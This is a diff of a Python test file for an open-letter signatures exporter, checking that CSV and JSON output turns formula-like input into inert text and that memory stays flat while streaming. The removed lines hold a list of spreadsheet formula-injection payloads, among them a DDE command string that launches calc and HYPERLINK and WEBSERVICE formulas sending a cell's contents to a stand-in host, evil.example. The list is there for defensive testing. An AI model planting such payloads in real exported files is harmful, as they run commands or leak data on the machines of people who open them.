@@ -1,58 +1,34 @@
-"""CSV and spreadsheet: everything is there, and nothing in it runs."""
+"""CSV and JSON: everything is there, and nothing in it runs."""
 
 import csv
-import datetime as dt
 import io
+import json
 import re
-import tracemalloc
-import zipfile
-from collections.abc import Iterator
+import subprocess
+import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
-from lxml import etree
 
-from signatures.exports import columns, comma, sheet
-from signatures.exports.document import OrganiserRow
-from tests import paper, world
+from signatures.exports import columns, comma, objects
+from signatures.exports.document import OrganiserRow, Row
+from tests import paper, tables, world
+from tests.polyglots import FORMULAS, POLYGLOTS
+from tests.processes import ROOT
+from tests.tables import row
 
-DAY = dt.date(2026, 11, 3)
-SNAPSHOT = dt.datetime(2026, 11, 20, 9, 14, tzinfo=dt.UTC)
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "  =1+1",
-    '"=1+1',
-    "'=1",
-    "a,=1",
-    "a;=1+1",
-    "a|=1",
-    "a\t=1",
-    "x\n=1",
-    "\";=cmd|' /C calc'!A0",
-    "a, =1",
-    "\uff1d1+1",
-    "\uff0b1",
-    '=HYPERLINK("http://evil.example?"&A1)',
-    '=WEBSERVICE("http://evil.example")',
-    "\ufeff=1",
-    "\xa0=1",
-]
 STARTS = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
-
-
-def row(name: str, **changes: object) -> OrganiserRow:
-    given: dict[str, object] = {"position": 1, "name": name, "signed_on": DAY}
-    return OrganiserRow(**{**given, **changes})  # type: ignore[arg-type]
 
 
 def written(*rows: OrganiserRow) -> str:
     return b"".join(comma.stream(rows)).decode()
+
+
+def listed(*rows: OrganiserRow | Row, **options: Any) -> dict[str, Any]:
+    given = b"".join(objects.stream(rows, document=tables.DOCUMENT, **options))
+    found: dict[str, Any] = json.loads(given)
+    return found
 
 
 def parsed(text: str) -> list[dict[str, str]]:
@@ -111,53 +87,114 @@ def test_ordinary_text_is_left_alone() -> None:
         assert comma.harmless(text) == text
 
 
-def test_rows_are_streamed_not_held() -> None:
-    def many() -> Iterator[OrganiserRow]:
-        for i in range(1, 20_001):
-            yield row("Ada " * 10, position=i, comment="word " * 100)
-
-    tracemalloc.start()
-    size = sum(len(piece) for piece in comma.stream(many()))
-    peak = tracemalloc.get_traced_memory()[1]
-    tracemalloc.stop()
-    assert size > 10_000_000
-    assert peak < 3_000_000
-
-
-def cells(path: Path) -> list[tuple[str, str]]:
-    """Type and text of every cell of the first sheet."""
-    with zipfile.ZipFile(path) as book:
-        tree = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
-    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-    assert not tree.findall(f".//{space}f")
-    return [
-        (cell.get("t", "n"), "".join(str(text) for text in cell.itertext()))
-        for cell in tree.iter(f"{space}c")
-    ]
+def test_a_withheld_row_is_its_place_and_the_word_for_it_and_nothing_else() -> None:
+    """Even if more came with the row than should."""
+    given = paper.row(
+        "Ada", position=7, title="Dr", place="Leeds", country="GB", group="Doctors", withheld=True
+    )
+    text = b"".join(
+        comma.stream(
+            [given],
+            columns=("position", "title", "name", "place", "country", "group", "signed_on"),
+            withheld="name withheld",
+        )
+    ).decode()
+    (found,) = parsed(text)
+    assert (found.pop("position"), found.pop("name")) == ("7", "name withheld")
+    assert set(found.values()) == {""}
 
 
-def test_t30_every_text_of_the_spreadsheet_is_a_text(tmp_path: Path) -> None:
-    out = tmp_path / "letter.xlsx"
-    sheet.write([row(formula) for formula in FORMULAS], out, snapshot=SNAPSHOT)
-    kinds = {kind for kind, text in cells(out) if STARTS.match(text)}
-    assert kinds == {"inlineStr"}
-    assert ("inlineStr", "=1+1") in cells(out)
+def test_columns_come_in_the_order_asked_for() -> None:
+    text = b"".join(comma.stream([row("Ada")], columns=("name", "position"), bom=False)).decode()
+    assert text == '"name","position"\r\n"Ada","1"\r\n'
 
 
-def test_a_link_in_a_spreadsheet_is_only_text(tmp_path: Path) -> None:
-    out = tmp_path / "letter.xlsx"
-    sheet.write([row("https://evil.example/")], out, snapshot=SNAPSHOT)
-    with zipfile.ZipFile(out) as book:
-        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]
+def test_every_column_has_a_label_and_gives_what_its_row_says() -> None:
+    assert set(columns.COLUMNS) == set(columns.ORGANISER) > set(columns.PUBLIC)
+    assert all(str(column.label) for column in columns.COLUMNS.values())
+    given = row("Ada", group="Doctors", updates=True, email="ada@example.org", ref="poster")
+    read = columns.reader(columns.chosen(columns.ORGANISER))
+    found = dict(zip(columns.ORGANISER, read(given), strict=True))
+    assert found == {key: getattr(given, key) for key in columns.ORGANISER}
 
 
-def test_names_from_everywhere_arrive_in_both(tmp_path: Path) -> None:
+def test_t30_a_formula_is_a_string_in_json() -> None:
+    found = listed(*map(row, FORMULAS))["signatures"]
+    assert [person["name"] for person in found] == FORMULAS
+
+
+@pytest.mark.parametrize("typed", POLYGLOTS)
+def test_t29_what_was_typed_is_text_in_csv_and_json(typed: str) -> None:
+    given = row(typed, comment=typed, affiliation=typed)
+    (person,) = listed(given)["signatures"]
+    assert {person["name"], person["comment"], person["affiliation"]} == {typed}
+    written_out = b"".join(objects.stream([given], document=tables.DOCUMENT))
+    assert b"<" not in written_out  # so it may even stand in a page's script
+
+    (record,) = parsed(written(given))
+    assert record["name"].replace("'", "") == typed.replace("'", "")
+
+
+def test_json_tells_of_the_letter_and_then_of_each_person() -> None:
+    found = listed(
+        row("Ada", updates=True, email="ada@example.org"),
+        row("Joan", position=2, email="joan@example.org"),
+    )
+    ada, joan = found.pop("signatures")
+    assert found == {
+        "version": 1,
+        "letter": {
+            "title": "Give the Aller its water back",
+            "url": "https://letters.example.org/letters/aller/",
+            "language": "en",
+            "revision": 2,
+            "sha256": "9f49" * 16,
+        },
+        "counts": {
+            "signatures": 1,
+            "withheld": 0,
+            "withdrawn": 0,
+            "invalidated": 0,
+            "paper": 0,
+        },
+        "snapshot": "2026-11-20T09:14:00Z",
+        "order": "date",
+    }
+    assert tuple(ada) == columns.ORGANISER
+    assert (ada["position"], ada["signed_on"], ada["updates"]) == (1, "2026-11-03", True)
+    assert (ada["email"], joan["email"]) == ("ada@example.org", "")
+
+
+def test_json_of_nobody_is_json() -> None:
+    assert listed()["signatures"] == []
+
+
+def test_half_a_surrogate_pair_spoils_no_table() -> None:
+    """A database takes none, but a table is not to break on what it is handed."""
+    assert listed(row("a\ud800b"))["signatures"][0]["name"] == "a\ud800b"
+    assert "a?b" in written(row("a\ud800b"))
+
+
+def test_names_from_everywhere_arrive() -> None:
     people = list(world.rows(500))
-    text = b"".join(comma.stream(people, columns=columns.PUBLIC)).decode()
-    assert [person["name"] for person in parsed(text)] == [person.name for person in people]
-    out = tmp_path / "letter.xlsx"
+    names = [person.name for person in people]
     told: list[int] = []
-    sheet.write(people, out, snapshot=SNAPSHOT, columns=columns.PUBLIC, progress=told.append)
-    texts = {text for _, text in cells(out)}
-    assert {person.name for person in people if person.name} <= texts
-    assert told[-1] == 500
+    text = b"".join(comma.stream(people, columns=columns.PUBLIC, progress=told.append)).decode()
+    assert [person["name"] for person in parsed(text)] == names
+    found = listed(*people, columns=columns.PUBLIC, progress=told.append)
+    assert [person["name"] for person in found["signatures"]] == names
+    assert told == [500, 500] * 2
+
+
+@pytest.mark.soak
+@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
+def test_t101_memory_does_not_grow_with_the_table(kind: str, soak: bool, tmp_path: Path) -> None:
+    few, many = (needed(kind, count, tmp_path) for count in (5_000, 1_000_000 if soak else 20_000))
+    assert many < few + 4_000  # kilobytes; what is written is a hundred times that
+
+
+def needed(kind: str, count: int, folder: Path) -> int:
+    """The most kilobytes a process of its own held while writing so many rows."""
+    command = [sys.executable, "-m", "tests.tables", kind, str(count), str(folder / "table")]
+    answer = subprocess.run(command, cwd=ROOT, check=True, capture_output=True, text=True)
+    return int(answer.stdout)
